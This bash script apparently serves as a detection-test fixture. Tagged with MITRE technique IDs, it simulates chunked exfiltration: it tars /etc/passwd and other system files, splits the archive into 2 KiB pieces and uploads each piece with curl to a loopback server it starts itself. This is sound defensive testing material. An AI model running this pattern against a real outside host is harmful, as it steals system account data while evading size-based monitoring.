#!/bin/bash
# Exfiltrate in small pieces: tar up /etc files, split the archive into 2 KiB chunks, and upload every chunk in a loop with curl -T to a loopback web server the script starts.
# technique: T1030 T1020
# expect: split-then-send repeated-file-uploads
set -eu
port=$((20000 + ($$ + 19) % 20000))
mkdir -p "$TPY_WORK/www"
/usr/bin/python3 -m http.server --bind 127.0.0.1 -d "$TPY_WORK/www" "$port" > /dev/null 2>&1 &
server=$!
for _ in $(seq 50); do curl -s -o /dev/null "http://127.0.0.1:$port/" && break; sleep 0.1; done
tar cf data.tar -C /etc passwd group hostname os-release
head -c 8192 /dev/urandom >> data.tar
split -b 2k -d data.tar part.
for chunk in part.*; do
    curl -s -o /dev/null -T "$chunk" "http://127.0.0.1:$port/"
done
kill "$server"
wait || true
